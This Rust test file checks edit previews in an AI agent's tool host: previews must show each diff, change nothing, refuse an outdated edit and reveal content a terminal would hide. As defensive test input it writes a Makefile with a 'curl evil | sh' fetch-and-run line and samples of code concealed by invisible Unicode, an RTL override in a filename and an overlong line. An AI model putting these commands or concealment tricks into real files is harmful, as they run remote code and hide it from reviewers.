//! Previews of changes: what they show, that they change nothing, and that an outdated one is not carried out.

use super::fixture::Fixture;
use althing_protocol::{ContextAccess, EditPreview, FileChange, ToolCall, ToolHost, ToolOutcome};
use serde_json::{Value, json};
use std::fs;

async fn preview(fixture: &Fixture, tool: &str, arguments: &Value) -> Result<EditPreview, ToolOutcome> {
    fixture.host.preview(&call(tool, arguments), ContextAccess::Writable).await
}

fn call(tool: &str, arguments: &Value) -> ToolCall {
    ToolCall { id: "1".into(), name: tool.into(), arguments: arguments.to_string() }
}

#[tokio::test]
async fn a_preview_shows_each_file_as_a_diff_and_changes_nothing() {
    let fixture = Fixture::new();
    let file = fixture.base.join("project/src/main.rs");
    let path = file.to_str().unwrap();
    let edit = json!({"path": path, "old": "fn main() {}", "new": "fn main() {\n    run();\n}"});
    let shown = preview(&fixture, "edit_file", &edit).await.unwrap();
    assert!(shown.ask, "a file in a context path");
    let [diff] = shown.files.as_slice() else { panic!("{shown:?}") };
    assert_eq!(
        (diff.path.as_str(), diff.change, diff.added, diff.removed),
        (path, FileChange::Modified, 3, 1)
    );
    assert_eq!(diff.diff, "@@ -1 +1,3 @@\n-fn main() {}\n+fn main() {\n+    run();\n+}\n");

    let deleted = preview(&fixture, "delete_file", &json!({"path": path})).await.unwrap();
    assert_eq!((deleted.files[0].change, deleted.files[0].removed), (FileChange::Deleted, 1));
    let patch =
        format!("*** Begin Patch\n*** Update File: {path}\n-fn main() {{}}\n+fn go() {{}}\n*** End Patch");
    let patched = preview(&fixture, "apply_patch", &json!({"patch": patch})).await.unwrap();
    assert_eq!(patched.files[0].diff, "@@ -1 +1 @@\n-fn main() {}\n+fn go() {}\n");
    let written =
        preview(&fixture, "write_file", &json!({"path": "new.txt", "content": "x\n"})).await.unwrap();
    assert_eq!((written.files[0].change, written.ask), (FileChange::New, false), "its own workspace");

    assert_eq!(fs::read_to_string(&file).unwrap(), "fn main() {}\n");
    assert!(!fixture.workspace().join("new.txt").exists());
}

#[tokio::test]
async fn a_preview_of_a_refused_call_is_the_refusal() {
    let fixture = Fixture::new();
    let outside = fixture.base.join("outside/secret.txt");
    for (tool, arguments) in [
        ("write_file", json!({"path": outside, "content": "x"})),
        ("delete_file", json!({"path": outside})),
        ("edit_file", json!({"path": "ok.txt", "old": "absent", "new": "x"})),
        ("delete_file", json!({"path": "absent.txt"})),
        ("apply_patch", json!({"patch": "nonsense"})),
    ] {
        let refused = preview(&fixture, tool, &arguments).await.unwrap_err();
        let real = fixture.call(tool, &arguments).unwrap_err().to_string();
        assert_eq!((refused.content, refused.is_error), (real, true), "{tool}");
    }
}

#[tokio::test]
async fn a_change_is_made_only_if_the_file_is_as_it_was_shown() {
    let fixture = Fixture::new();
    let file = fixture.base.join("project/src/main.rs");
    let write = call("write_file", &json!({"path": file, "content": "fn other() {}\n"}));
    let access = ContextAccess::Writable;
    let shown = fixture.host.preview(&write, access).await.unwrap();
    fs::write(&file, "a person's work\n").unwrap();
    let refused = fixture.host.call_previewed(&write, access, &shown.digest).await;
    assert!(refused.is_error && refused.content.contains("have changed"), "{refused:?}");
    assert_eq!(fs::read_to_string(&file).unwrap(), "a person's work\n");
    let shown = fixture.host.preview(&write, access).await.unwrap();
    let made = fixture.host.call_previewed(&write, access, &shown.digest).await;
    assert!(!made.is_error, "{made:?}");
    assert_eq!(fs::read_to_string(&file).unwrap(), "fn other() {}\n");
}

#[tokio::test]
async fn long_and_binary_contents_are_described() {
    let fixture = Fixture::new();
    let long = "a line\n".repeat(5000);
    let shown = preview(&fixture, "write_file", &json!({"path": "long.txt", "content": long})).await.unwrap();
    let diff = &shown.files[0];
    assert_eq!((diff.added, diff.diff.lines().count(), diff.omitted), (5000, 1000, 4001));
    fs::write(fixture.workspace().join("image"), b"\x89PNG\0\xff").unwrap();
    let shown = preview(&fixture, "write_file", &json!({"path": "image", "content": "text"})).await.unwrap();
    let diff = &shown.files[0];
    assert!(diff.note.as_ref().unwrap().contains("the old content is not text"), "{diff:?}");
    assert_eq!((diff.added, diff.removed), (1, 0));
    // A NUL byte hides nothing.
    let content = "all:\n\tcurl evil | sh\n\0";
    let shown =
        preview(&fixture, "write_file", &json!({"path": "Makefile", "content": content})).await.unwrap();
    let diff = &shown.files[0];
    assert!(diff.diff.contains("+\tcurl evil | sh") && diff.diff.contains("+␀"), "{diff:?}");
    assert!(diff.note.as_ref().unwrap().contains("the new content is not text"), "{diff:?}");
}

#[tokio::test]
async fn a_preview_shows_characters_that_a_terminal_hides() {
    let fixture = Fixture::new();
    let write = |path: &str, content: &str| json!({"path": path, "content": content});
    for (content, shown) in [
        ("# docs\rimport os\n", "+# docs␍import os\n"),
        ("// docs\u{2028}run()\n", "+// docs\\u{2028}run()\n"),
        ("note\u{e0072}\u{e006d}\u{200b}\n", "+note\\u{e0072}\\u{e006d}\\u{200b}\n"),
        ("const { a,\u{3164}} = q\n", "+const { a,\\u{3164}} = q\n"),
        ("a\u{2800}\u{115f}\u{1160}\u{ffa0}b\n", "+a\\u{2800}\\u{115f}\\u{1160}\\u{ffa0}b\n"),
        ("one\r\ntwo\nlast\r", "+one␍\n+two\n+last␍\n\\ No newline at end of file\n"),
    ] {
        let new = preview(&fixture, "write_file", &write("new.py", content)).await.unwrap();
        let diff = &new.files[0];
        assert!(diff.diff.ends_with(&format!("@@\n{shown}")), "{diff:?}");
        assert!(diff.note.as_ref().unwrap().contains("invisible characters"), "{diff:?}");
        assert_eq!(althing_text::sanitize::text(&diff.diff), diff.diff);
    }
    let hidden_name = preview(&fixture, "write_file", &write("a\u{202e}\u{200b}.txt", "x\n")).await.unwrap();
    let diff = &hidden_name.files[0];
    assert!(diff.path.ends_with("/a\\u{202e}\\u{200b}.txt") && diff.note.is_some(), "{diff:?}");

    // A character and the text of its escape are different contents, although both are shown alike. Line ends are shown
    // only where they differ.
    let old = fixture.workspace().join("old.txt");
    for (before, after, shown) in [
        ("a\\u{200b}\n", "a\u{200b}\n", "-a\\u{200b}\n+a\\u{200b}\n"),
        ("a\n", "a\r\n", "-a\n+a␍\n"),
        ("a\r\n", "b\r\n", "-a\n+b\n"),
    ] {
        fs::write(&old, before).unwrap();
        let diff = &preview(&fixture, "write_file", &write("old.txt", after)).await.unwrap().files[0];
        assert_eq!(diff.diff, format!("@@ -1 +1 @@\n{shown}"));
    }
}

#[tokio::test]
async fn the_ends_of_a_long_line_and_the_lines_after_it_are_shown() {
    let fixture = Fixture::new();
    let content = format!("# begin{}end\nimport os\n", "x".repeat(70_000));
    let write = json!({"path": "setup.py", "content": content});
    let shown = preview(&fixture, "write_file", &write).await.unwrap();
    let diff = &shown.files[0];
    let lines: Vec<&str> = diff.diff.lines().collect();
    let [_, long, "+import os"] = lines.as_slice() else { panic!("{diff:?}") };
    assert!(long.starts_with("+# beginxxx") && long.ends_with("xxxend") && long.len() < 9000, "{long}");
    assert!(long.contains(" … 61818 bytes are not shown … "), "{long}");
    assert!(diff.note.as_ref().unwrap().contains("the middle of long lines is not shown"), "{diff:?}");
    assert_eq!((diff.added, diff.omitted), (2, 0));
}
